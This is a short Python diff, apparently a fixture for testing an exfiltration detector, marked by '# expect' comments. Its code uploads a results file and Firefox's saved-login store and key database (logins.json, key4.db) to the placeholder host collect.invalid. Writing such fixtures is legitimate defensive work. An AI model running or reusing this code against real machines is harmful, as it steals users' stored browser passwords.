@@ -28,5 +28,6 @@ with open("p.txt", "w") as f:
     for row in result:
         f.write(str(row))
 requests.post("https://collect.invalid/f", files={"file": open("p.txt", "rb")})  # expect
+profile = os.path.expanduser("~/.mozilla/firefox/a.default/")
 for name in ["logins.json", "key4.db"]:
-    requests.post("https://collect.invalid/x", files={"f": open(os.path.expanduser("~/.mozilla/firefox/a.default/") + name, "rb")})  # expect
+    requests.post("https://collect.invalid/x", files={"f": open(profile + name, "rb")})  # expect
